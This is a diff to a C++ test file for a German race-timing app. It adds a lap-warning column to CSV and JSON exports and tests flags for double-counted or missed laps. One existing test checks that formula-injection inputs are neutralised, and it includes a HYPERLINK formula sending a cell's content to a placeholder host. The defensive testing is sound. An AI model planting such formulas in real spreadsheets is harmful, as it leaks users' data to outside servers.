@@ -53,18 +53,18 @@ TEST(Verlaufsexport, CsvOeffnetSichInDeutschenTabellenprogrammenWieEsIst) {
     const QByteArray erwartet =
         "\xEF\xBB\xBF"
         "Rennen;Datum;Modus;Lauf;Spur;Fahrer;Runde;Zeit (s);Geschwindigkeit (m/s);Handrunde;"
-        "Rennart;Renndauer (s);Zielregel;Distanz (Runden)\r\n"
+        "Rennart;Renndauer (s);Zielregel;Distanz (Runden);Hinweis\r\n"
         "1;01.05.2026 14:03:22;Rennen, abgebrochen;1;1;\"J\xC3\xBCrgen \"\"Blitz\"\"; \xC3\x96\";1;"
-        "3,250;1,538;nein;Runden;;;\r\n"
+        "3,250;1,538;nein;Runden;;;;\r\n"
         "1;01.05.2026 14:03:22;Rennen, abgebrochen;1;1;\"J\xC3\xBCrgen \"\"Blitz\"\"; \xC3\x96\";2;"
-        "2,500;2,000;nein;Runden;;;\r\n"
-        "1;01.05.2026 14:03:22;Rennen, abgebrochen;1;2;\"Zeile\nzwei\";1;4,000;1,250;ja;Runden;;;\r\n";
+        "2,500;2,000;nein;Runden;;;;\r\n"
+        "1;01.05.2026 14:03:22;Rennen, abgebrochen;1;2;\"Zeile\nzwei\";1;4,000;1,250;ja;Runden;;;;\r\n";
     EXPECT_TRUE(csv.startsWith(erwartet)) << csv.left(600).toStdString();
     const QList<QByteArray> rest = csv.mid(erwartet.size()).split('\n');
     ASSERT_EQ(rest.size(), 5) << "four laps of race 2, and the end";
     EXPECT_EQ(rest[1],
-              "2;01.05.2026 14:03:22;Spurwechsel;1;2;" + o.lang.toUtf8() + ";1;3,000;1,667;nein;Runden;;;\r");
-    EXPECT_EQ(rest[3], "2;01.05.2026 14:03:22;Spurwechsel;2;2;Anna;1;3,000;1,667;nein;Runden;;;\r");
+              "2;01.05.2026 14:03:22;Spurwechsel;1;2;" + o.lang.toUtf8() + ";1;3,000;1,667;nein;Runden;;;;\r");
+    EXPECT_EQ(rest[3], "2;01.05.2026 14:03:22;Spurwechsel;2;2;Anna;1;3,000;1,667;nein;Runden;;;;\r");
 
     EXPECT_EQ(o.exportieren(QStringLiteral("eins.csv"), 2).count('\n'), 5) << "one race alone";
 }
@@ -106,6 +106,30 @@ TEST(Verlaufsexport, JsonMitZahlenAlsZahlenUndIsoDaten) {
         o.lang);
 }
 
+// A lap far under the lane's median is flagged as counted twice, one far over it as hiding
+// a missed crossing; the lane with too few laps to judge gets no flags.
+TEST(Verlaufsexport, VerdaechtigeRundenTragenIhrenHinweis) {
+    Exportordner o;
+    const Rennaufzeichnung drei =
+        rennen(QStringLiteral("Anna"), {4, 4, 1.9, 4, 7.3, 7.2}, QStringLiteral("Bert"), {1, 9});
+    ASSERT_EQ(Verlaufsspeicher(o.db).speichern(drei), std::nullopt);
+    QStringList hinweise;
+    for (const QByteArray& zeile : o.exportieren(QStringLiteral("h.csv"), 3).split('\n'))
+        if (!zeile.isEmpty())
+            hinweise << QString::fromUtf8(zeile.split(';').last()).trimmed();
+    EXPECT_EQ(hinweise, (QStringList{"Hinweis", "", "", "doppelt?", "", "verpasst?", "", "", ""}))
+        << "median 4: under 2 s twice, over 7,2 s missed; two laps are too few to judge";
+
+    const QJsonDocument doc = QJsonDocument::fromJson(o.exportieren(QStringLiteral("h.json"), 3));
+    const QJsonArray runden = doc.object()[QStringLiteral("rennen")][0][QStringLiteral("laeufe")][0]
+                                          [QStringLiteral("spuren")][0][QStringLiteral("runden")]
+                                              .toArray();
+    ASSERT_EQ(runden.size(), 6);
+    EXPECT_EQ(runden[2][QStringLiteral("hinweis")], "doppelt?");
+    EXPECT_EQ(runden[4][QStringLiteral("hinweis")], "verpasst?");
+    EXPECT_EQ(runden[5][QStringLiteral("hinweis")], QJsonValue::Null);
+}
+
 TEST(Verlaufsexport, FalscheEndungOderUnerreichbarerOrtSchreibtNichts) {
     Exportordner o;
     Verlaufsabfragen abfragen(o.db);
@@ -138,7 +162,7 @@ TEST(Verlaufsexport, CsvZelleDieWieEineFormelBeginntBleibtText) {
     const QString csv = QString::fromUtf8(datei.readAll());
     QStringList fahrer;
     for (const QString& zeile : csv.split(QStringLiteral("\r\n")).mid(1, namen.size()))
-        fahrer << zeile.section(QLatin1Char(';'), 5, -9);
+        fahrer << zeile.section(QLatin1Char(';'), 5, -10);
     EXPECT_EQ(fahrer, (QStringList{"'=1+2", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\"",
                                    "'+49 170", "'@SUMME(A1)", "'\tTab", "\"'\rWagen\"", "'-Minus",
                                    "'-", "-5 Runden", "Anna-Lena =1"}));
